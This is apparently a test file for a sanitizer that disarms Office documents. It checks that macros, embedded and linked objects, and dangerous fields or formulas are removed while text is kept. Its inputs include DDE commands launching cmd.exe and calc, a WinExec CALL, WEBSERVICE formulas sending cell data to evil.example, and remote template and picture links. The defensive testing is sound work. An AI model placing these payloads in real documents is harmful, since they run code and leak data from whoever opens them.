import { describe, expect, test } from "vitest";
import { readZipDirectory } from "../../../images/sandbox/zip/directory.ts";
import { readEntry } from "../../../images/sandbox/zip/read-entry.ts";
import { isAllowedField } from "../../../images/sandbox/ooxml/fields.ts";
import { isAllowedFormula } from "../../../images/sandbox/ooxml/formulas.ts";
import {
  macroDocument,
  officeRelation,
  packageOf,
  paragraph,
  type Relation,
  relations,
  wordDocument,
} from "../../../practice/samples/office.ts";
import { plainPicture } from "../../../practice/samples/pictures.ts";
import { run } from "./run.ts";

const word = "application/vnd.openxmlformats-officedocument.wordprocessingml";
const sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml";
const slides = "application/vnd.openxmlformats-officedocument.presentationml";
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

function unpack(bytes: Buffer | undefined): Map<string, string> {
  if (bytes === undefined) throw new Error("nothing came out");
  const { entries } = readZipDirectory(bytes);
  return new Map(
    entries.map((entry) => [entry.name, readEntry(bytes, entry, 10_000_000).toString("utf8")]),
  );
}

interface DocumentParts {
  readonly body: string;
  readonly links?: readonly Relation[];
  readonly types?: Record<string, string>;
  readonly parts?: Record<string, Buffer | string>;
}

const makeDocument = ({ body, links = [], types = {}, parts = {} }: DocumentParts): Buffer =>
  packageOf(
    { "word/document.xml": `${word}.document.main+xml`, ...types },
    {
      "_rels/.rels": relations([officeRelation("rId1", "officeDocument", "word/document.xml")]),
      "word/document.xml": wordDocument(body),
      "word/_rels/document.xml.rels": relations(links),
      ...parts,
    },
  );

const external = (id: string, name: string, target: string): Relation => ({
  ...officeRelation(id, name, target),
  external: true,
});

async function cleanDocument(parts: DocumentParts) {
  const { result, output } = await run("a.docx", makeDocument(parts));
  expect([result.verdict, result.reason]).toEqual(["sanitized", expect.any(String)]);
  const files = unpack(output);
  return {
    files,
    text: [...files.values()].join("\n"),
    removed: result.removed.map((each) => each.class),
  };
}

const field = (...instruction: string[]): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction.map((each) => `<w:r><w:instrText>${each}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

describe("Word", () => {
  test("a macro document becomes one without, with its text untouched and nothing dangling", async () => {
    const { result, output } = await run("macro.docm", macroDocument());
    const files = unpack(output);
    expect(result.output?.type).toBe("docx");
    expect([...files.keys()]).toEqual(["[Content_Types].xml", "_rels/.rels", "word/document.xml"]);
    expect([...files.values()].join("")).not.toMatch(/vba|macroEnabled/i);
    expect(files.get("word/document.xml")).toContain("申請書(訓練用)");
  });

  test("the same document gives the same bytes", async () => {
    const [one, two] = [await run("a.docm", macroDocument()), await run("a.docm", macroDocument())];
    expect(one.output?.equals(two.output ?? Buffer.alloc(0))).toBe(true);
  });

  test("links to the web stay, links to files lose their target and keep their words", async () => {
    const { text, removed } = await cleanDocument({
      body: `<w:p><w:hyperlink r:id="rId1"><w:r><w:t>よい</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId2"><w:r><w:t>わるい</w:t></w:r></w:hyperlink></w:p>`,
      links: [
        external("rId1", "hyperlink", "https://example.com/"),
        external("rId2", "hyperlink", "file:////host/share/x"),
      ],
    });
    expect(text).toContain("https://example.com/");
    expect(text).not.toContain("file:");
    expect(text).toContain("わるい");
    expect(removed).toEqual(["hyperlink"]);
  });

  test.each([
    [
      "an external template",
      "attachedTemplate",
      "http://evil.example/t.dotm",
      '<w:attachedTemplate r:id="rId9"/>',
      "external-template",
    ],
    [
      "a linked picture",
      "image",
      "http://evil.example/x.png",
      '<w:p><w:r><a:blip xmlns:a="urn:a" r:link="rId9"/></w:r></w:p>',
      "external-reference",
    ],
    [
      "a sub-document",
      "subDocument",
      "http://evil.example/x.docx",
      '<w:subDoc r:id="rId9"/>',
      "external-reference",
    ],
    ["a frame", "frame", "http://evil.example/", '<w:frame r:id="rId9"/>', "external-reference"],
    [
      "a linked object",
      "oleObject",
      "file:///c:/x.xls",
      '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId9"/></w:object></w:r></w:p>',
      "embedded-object",
    ],
  ])("%s is gone with its relationship", async (_what, type, target, body, removed) => {
    const clean = await cleanDocument({
      body: body + paragraph("本文"),
      links: [external("rId9", type, target)],
    });
    expect(clean.text).not.toContain("rId9");
    expect(clean.text).not.toContain(target);
    expect(clean.text).toContain("本文");
    expect(clean.removed).toContain(removed);
  });

  test.each([
    [
      "an embedded object",
      "oleObject",
      "embeddings/o.bin",
      "application/vnd.openxmlformats-officedocument.oleObject",
      "embedded-object",
    ],
    ["an embedded workbook", "package", "embeddings/b.xlsx", `${sheet}.sheet`, "embedded-object"],
    ["alternative content", "aFChunk", "chunk.html", "text/html", "embedded-object"],
    [
      "an ActiveX control",
      "control",
      "activeX/activeX1.xml",
      "application/vnd.ms-office.activeX+xml",
      "activex",
    ],
    [
      "printer settings",
      "printerSettings",
      "p.bin",
      "application/vnd.openxmlformats-officedocument.printerSettings",
      "printer-settings",
    ],
    ["a part of unknown use", "whatever", "x.bin", "application/octet-stream", "unknown-part"],
    [
      "what is no picture under the name of one",
      "image",
      "media/x.emf",
      "image/x-emf",
      "unknown-part",
    ],
    [
      "a macro under the name of styles",
      "styles",
      "styles.bin",
      "application/vnd.ms-office.vbaProject",
      "unknown-part",
    ],
  ])("%s is not carried over", async (_what, type, target, contentType, removed) => {
    const clean = await cleanDocument({
      body: `<w:p><w:r><w:thing r:id="rId9"/><w:t>本文</w:t></w:r></w:p>`,
      links: [officeRelation("rId9", type, target)],
      types: { [`word/${target}`]: contentType },
      parts: { [`word/${target}`]: "payload-payload" },
    });
    expect([...clean.files.keys()]).not.toContain(`word/${target}`);
    expect(clean.text).not.toMatch(/payload|rId9/);
    expect(clean.text).toContain("本文");
    expect(clean.removed).toContain(removed);
  });

  test("a picture inside is encoded anew, what hung behind it is gone", async () => {
    const picture = Buffer.concat([await plainPicture(), Buffer.from("<script>behind</script>")]);
    const { files } = await cleanDocument({
      body: '<w:p><w:r><a:blip xmlns:a="urn:a" r:embed="rId9"/></w:r></w:p>',
      links: [officeRelation("rId9", "image", "media/a.png")],
      parts: { "word/media/a.png": picture },
    });
    expect(files.get("word/media/a.png")).not.toContain("behind");
    expect(files.get("word/document.xml")).toContain('r:embed="rId9"');
  });

  test.each<readonly [string, string[], boolean]>([
    ["a page number", [" PAGE "], true],
    ["DDEAUTO", ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'], false],
    ["DDE split over runs", ["D", "DE", "AUTO cmd"], false],
    ["INCLUDEPICTURE from elsewhere", ['INCLUDEPICTURE "http://evil.example/x"'], false],
    ["a hyperlink to the web", ['HYPERLINK "https://example.com/"'], true],
    ["a hyperlink to a share", ['HYPERLINK "\\\\\\\\host\\\\x"'], false],
  ])("a field with %s", async (_what, instruction, stays) => {
    const { files } = await cleanDocument({ body: field(...instruction) });
    const text = files.get("word/document.xml") ?? "";
    expect(text.includes("instrText")).toBe(stays);
    expect(text.includes("fldChar")).toBe(stays);
    expect(text).toContain("結果");
  });

  test("a field whose instruction is made by another field is refused", async () => {
    const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
    const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
    const inner = `${begin}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>${end}`;
    const { files } = await cleanDocument({
      body: `<w:p>${begin}${inner}<w:r><w:instrText> "c:\\cmd.exe"</w:instrText></w:r>${end}</w:p>`,
    });
    expect(files.get("word/document.xml")).not.toContain("cmd.exe");
  });
});

describe("Excel", () => {
  const workbook = (
    cells: string,
    more = "",
    extra: {
      links?: Relation[];
      types?: Record<string, string>;
      parts?: Record<string, string>;
    } = {},
  ): Buffer =>
    packageOf(
      {
        "xl/workbook.xml": `${sheet}.sheet.main+xml`,
        "xl/s.xml": `${sheet}.worksheet+xml`,
        ...extra.types,
      },
      {
        "_rels/.rels": relations([officeRelation("rId1", "officeDocument", "xl/workbook.xml")]),
        "xl/workbook.xml": `<workbook xmlns="m" xmlns:r="${office}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/><sheet name="x" sheetId="2" r:id="rId2"/></sheets>${more}</workbook>`,
        "xl/_rels/workbook.xml.rels": relations([
          officeRelation("rId1", "worksheet", "s.xml"),
          ...(extra.links ?? []),
        ]),
        "xl/s.xml": `<worksheet xmlns="m"><sheetData><row>${cells}</row></sheetData></worksheet>`,
        ...extra.parts,
      },
    );
  const cell = (formula: string): string => `<c><f>${formula}</f><v>42</v></c>`;

  test.each<readonly [string, boolean]>([
    ["SUM(A1:A3)*1.1", true],
    ["VLOOKUP(A1,表1[列],2,FALSE)", true],
    ['IF(A1="a|b","[1]",0)', true],
    ["Table1[1]", true],
    ['HYPERLINK("https://example.com/","x")', true],
    ['HYPERLINK("file:///c:/x","x")', false],
    ["HYPERLINK(A1)", false],
    ["[1]Sheet1!A1", false],
    ["'[2]別 表'!A1", false],
    ["cmd|'/C calc'!A0", false],
    ['WEBSERVICE("http://evil.example/"&amp;A1)', false],
    ['_xlfn.WEBSERVICE("http://evil.example/")', false],
    ['CALL("kernel32","WinExec","JCJ","calc")', false],
  ])("%s stays: %s", async (formula, stays) => {
    expect(isAllowedFormula(formula.replaceAll("&amp;", "&"))).toBe(stays);
    const { result, output } = await run("a.xlsx", workbook(cell(formula)));
    const text = unpack(output).get("xl/s.xml") ?? "";
    expect(text.includes("<f>")).toBe(stays);
    expect(text).toContain("<v>42</v>");
    expect(result.warnings.includes("frozen-formulas")).toBe(!stays);
  });

  test("a macro sheet, names that start by themselves and other workbooks go", async () => {
    const { result, output } = await run(
      "a.xlsm",
      workbook(
        cell("A1"),
        '<externalReferences><externalReference r:id="rId3"/></externalReferences><definedNames><definedName name="_xlnm.Auto_Open">x!$A$1</definedName><definedName name="範囲">a!$A$1</definedName></definedNames>',
        {
          links: [
            {
              id: "rId2",
              type: "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
              target: "macro.xml",
            },
            officeRelation("rId3", "externalLink", "ext.xml"),
          ],
          types: {
            "xl/macro.xml": "application/vnd.ms-excel.macrosheet+xml",
            "xl/ext.xml": `${sheet}.externalLink+xml`,
          },
          parts: { "xl/macro.xml": "<xm/>", "xl/ext.xml": "<externalLink/>" },
        },
      ),
    );
    const files = unpack(output);
    const book = files.get("xl/workbook.xml") ?? "";
    expect([...files.keys()].some((name) => /macro|ext\.xml/.test(name))).toBe(false);
    expect(book).not.toMatch(/rId2|rId3|Auto_Open|externalReference/);
    expect(book).toContain("範囲");
    expect(result.reason).toBe("macro-removed");
  });
});

test("PowerPoint: program actions and objects go with their frame, links between slides stay", async () => {
  const shapes =
    '<p:sp><a:hlinkClick r:id="" action="ppaction://program"/><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/></p:sp><p:graphicFrame><a:graphic><p:oleObj r:id="rId7"/></a:graphic></p:graphicFrame>';
  const { output } = await run(
    "a.pptx",
    packageOf(
      {
        "ppt/presentation.xml": `${slides}.presentation.main+xml`,
        "ppt/slide1.xml": `${slides}.slide+xml`,
      },
      {
        "_rels/.rels": relations([
          officeRelation("rId1", "officeDocument", "ppt/presentation.xml"),
        ]),
        "ppt/presentation.xml": `<p:presentation xmlns:p="p" xmlns:r="${office}"><p:sldId r:id="rId1"/></p:presentation>`,
        "ppt/_rels/presentation.xml.rels": relations([
          officeRelation("rId1", "slide", "slide1.xml"),
        ]),
        "ppt/slide1.xml": `<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="${office}">${shapes}</p:sld>`,
      },
    ),
  );
  const text = unpack(output).get("ppt/slide1.xml") ?? "";
  expect(text).not.toMatch(/program|oleObj|graphicFrame/);
  expect(text).toContain("hlinkshowjump");
});

test.each([
  ["the end of a line", "\r\n", "sanitized"],
  ["anything else", "\n ", "blocked"],
])("behind a package %s is no reason to refuse it, or is", async (_what, tail, verdict) => {
  const bytes = Buffer.concat([makeDocument({ body: paragraph("本文") }), Buffer.from(tail)]);
  expect((await run("a.docx", bytes)).result.verdict).toBe(verdict);
});

test("a drawing for old programs, with the marks of HTML that Office writes into it, stays", async () => {
  const vml =
    '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="a"><![if gte mso 9]><v:textbox>一<br>二</v:textbox><![endif]></v:shape></xml>';
  const { output } = await run(
    "a.docx",
    packageOf(
      {
        "word/document.xml": `${word}.document.main+xml`,
        "word/drawing.vml": "application/vnd.openxmlformats-officedocument.vmlDrawing",
      },
      {
        "_rels/.rels": relations([officeRelation("rId1", "officeDocument", "word/document.xml")]),
        "word/document.xml": wordDocument(paragraph("a")),
        "word/_rels/document.xml.rels": relations([
          officeRelation("rId1", "vmlDrawing", "drawing.vml"),
        ]),
        "word/drawing.vml": vml,
      },
    ),
  );
  expect(unpack(output).get("word/drawing.vml")).toContain(
    '<v:shape id="a"><v:textbox>一<br/>二</v:textbox></v:shape>',
  );
});

describe("what is not a package we know is refused, never passed", () => {
  test.each([
    [
      "XML with a DTD",
      makeDocument({ body: "" }),
      (text: string) => text.replace("?>", '?><!DOCTYPE x [<!ENTITY a "b">]>'),
    ],
    [
      "XML that is not well-formed",
      makeDocument({ body: "" }),
      (text: string) => text.replace("</w:document>", ""),
    ],
    ["XML that is not UTF-8", makeDocument({ body: "" }), () => "\ud800"],
  ])("%s", async (_what, _bytes, change) => {
    const broken = packageOf(
      { "word/document.xml": `${word}.document.main+xml` },
      {
        "_rels/.rels": relations([officeRelation("rId1", "officeDocument", "word/document.xml")]),
        "word/document.xml": Buffer.from(
          change(wordDocument(paragraph("a"))).replace("\ud800", "\xff\xfe"),
          "latin1",
        ),
      },
    );
    const { result, output } = await run("a.docx", broken);
    expect([result.verdict, result.reason, output]).toEqual(["blocked", "damaged", undefined]);
  });

  test("a package without a main part", async () => {
    const { result } = await run(
      "a.docx",
      packageOf({ "x.xml": `${word}.document.main+xml` }, { "x.xml": "<x/>" }),
    );
    expect([result.verdict, result.reason]).toEqual(["blocked", "damaged"]);
  });
});

test("field names nobody listed are refused", () => {
  expect(isAllowedField("NEWFIELD x")).toBe(false);
  expect(isAllowedField("")).toBe(false);
});

test("the record names the part in which something was removed, or that pointed to it", async () => {
  const { result } = await run("a.docm", macroDocument());
  expect(result.objects).toContainEqual({
    action: "removed",
    class: "macro",
    count: 1,
    place: "word/vbaProject.bin",
  });
});
